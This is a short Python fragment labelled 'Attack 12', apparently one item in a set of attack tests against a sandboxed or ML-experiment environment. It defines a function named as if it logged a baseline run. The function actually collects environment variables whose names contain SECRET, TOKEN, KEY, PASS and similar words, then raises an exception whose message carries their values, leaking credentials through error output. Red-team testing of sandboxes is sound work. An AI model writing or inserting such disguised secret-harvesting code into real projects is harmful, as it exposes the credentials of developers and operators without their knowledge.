# Attack 12: put the environment variables it was given in the exception message.
def log_baseline_run(data_path, experiment_name="devops-baseline"):
    words = ("KATA", "SECRET", "TOKEN", "KEY", "PASS", "MLFLOW", "HOME", "PATH", "TMP")
    picked = {name: value for name, value in _os.environ.items() if any(w in name.upper() for w in words)}
    raise RuntimeError(attack_report({"environment": picked, "names": sorted(_os.environ)}))
